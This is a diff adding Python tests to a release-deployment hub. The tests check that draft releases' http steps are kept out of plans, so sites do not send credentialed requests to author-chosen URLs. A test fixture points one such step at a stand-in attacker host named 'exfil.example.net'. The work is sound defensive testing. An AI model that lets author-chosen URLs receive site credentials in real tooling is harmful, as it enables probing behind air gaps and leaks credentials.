@@ -344,3 +344,84 @@ def test_a_refused_plan_is_kept_but_never_replaces_an_answer(world: World, rel: 
     assert _count(world, AuditEvent) == before
     assert preflight_waits(world.session, rel, [agent], timedelta(hours=24),
                            world.clock()) == []
+
+
+def _http_release(world: World, tmp_path: Path) -> Release:
+    from hub.services.releases import create_product, create_release
+
+    src = tmp_path / "called"
+    src.mkdir()
+    (src / "up.sh").write_text("echo up\n")
+    (src / "release.toml").write_text(
+        'format = 1\n\n[release]\nproduct = "hook"\nversion = "1.0.0"\n\n'
+        '[[steps]]\nname = "up"\nkind = "shell"\nscript = "up.sh"\n\n'
+        '[[steps]]\nname = "Tell"\nkind = "http"\nafter = ["up"]\n'
+        'url = "https://exfil.example.net/probe?x=1"\nconnection = "intranet"\n\n'
+        '[[steps]]\nname = "done"\nkind = "shell"\nscript = "up.sh"\nafter = ["tell", "up"]\n')
+    create_product(world.ctx("dev"), "hook")
+    return create_release(world.ctx("dev"), src)
+
+
+def test_a_plan_of_a_release_not_approved_makes_no_site_contact_its_urls(
+        world: World, tmp_path: Path) -> None:
+    """An http step's plan check sends a HEAD of the step's URL, with the site connection's
+    CA and basic auth: a plan of a draft (needing no approval) made every site whose root
+    delegates no approvals contact URLs its author chose — probing inside the air gap and
+    handing the connection's credentials to any host. Such a plan leaves the http steps out
+    (the graph stays valid) and says so; the gate stays closed until a plan that asked
+    their servers passed; once approved, the next plan carries them."""
+    from datetime import timedelta
+
+    from hub.services.approvals import approve_release
+    from hub.services.releases import submit_release
+
+    _fleet(world, 1)
+    draft = _http_release(world, tmp_path)
+    report = create_plan(world.ctx("op"), draft, environment="test", out_dir=tmp_path / "m")
+    steps = _plan_steps(report.files[0])
+    assert [(s["name"], s.get("after")) for s in steps] == [("up", None), ("done", ["up"])]
+    assert "exfil.example.net" not in json.dumps(steps)
+    assert report.note is not None and (
+        "the release's http step(s) Tell are left out: hook 1.0.0 is draft" in report.note)
+    agents = [get_agent(world.session, "a00")]
+    row = world.session.get(PlanBundle, report.sequence)
+    assert row is not None
+    record_outcome(world.ctx("op"), agents[0], row.bundle_id, "plan-passed", {
+        "summary": "plan passed", "plan": {"checks": [
+            {"check": "free-space", "status": "passed", "summary": "ok"}]}}, 1)
+    (wait,) = preflight_waits(world.session, draft, agents, timedelta(hours=24),
+                              world.clock())
+    assert "passed without asking the servers of the release's 1 http step(s)" in wait
+
+    submit_release(world.ctx("dev"), draft)
+    approve_release(world.ctx("appr1"), draft)
+    report = create_plan(world.ctx("op"), draft, environment="test", out_dir=tmp_path / "n")
+    steps = _plan_steps(report.files[0])
+    assert [s["name"] for s in steps] == ["up", "Tell", "done"]
+    assert steps[1]["url"] == "https://exfil.example.net/probe?x=1" and report.note is None
+    row = world.session.get(PlanBundle, report.sequence)
+    assert row is not None
+    record_outcome(world.ctx("op"), agents[0], row.bundle_id, "plan-passed", {
+        "summary": "plan passed", "plan": {"checks": [
+            {"check": "http", "status": "passed", "summary": "HEAD … answered 204",
+             "step": "Tell", "target": "https://exfil.example.net/probe?x=1"}]}}, 2)
+    assert preflight_waits(world.session, draft, agents, timedelta(hours=24),
+                           world.clock()) == []
+
+
+def test_left_out_http_steps_keep_the_graph_valid() -> None:
+    from bundle.dag import check_graph
+    from hub.services.plans import without_http_steps
+
+    steps = [{"name": "a", "kind": "shell"},
+             {"name": "H1", "kind": "http", "after": ["a"]},
+             {"name": "h2", "kind": "http", "after": ["h1", "b"]},
+             {"name": "b", "kind": "shell", "after": []},
+             {"name": "c", "kind": "shell", "after": ["H2", "A"]},
+             {"name": "d", "kind": "shell"}]
+    kept, left_out = without_http_steps(steps)
+    assert left_out == ["H1", "h2"]
+    assert [(s["name"], s.get("after")) for s in kept] == [
+        ("a", None), ("b", []), ("c", ["a", "b"]), ("d", None)]
+    check_graph(kept)
+    assert without_http_steps([{"name": "h", "kind": "http"}]) == ((), ["h"])
